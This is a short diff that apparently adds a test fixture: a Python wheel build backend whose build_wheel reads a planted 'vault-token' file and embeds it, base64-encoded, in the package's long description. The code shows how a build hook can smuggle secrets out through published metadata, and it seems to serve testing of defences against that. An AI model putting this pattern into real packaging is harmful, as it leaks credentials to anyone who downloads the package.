@@ -1,0 +1,14 @@
+"""Writes a token, in base 64, into the long description of the wheel's metadata."""
+
+import base64
+import pathlib
+
+import kit
+
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    prose = ""
+    with kit.attempt("read"):
+        secret = pathlib.Path(kit.plant("vault-token").path).read_bytes()
+        prose = base64.b64encode(secret).decode()
+    return kit.wheel(wheel_directory, description=prose)
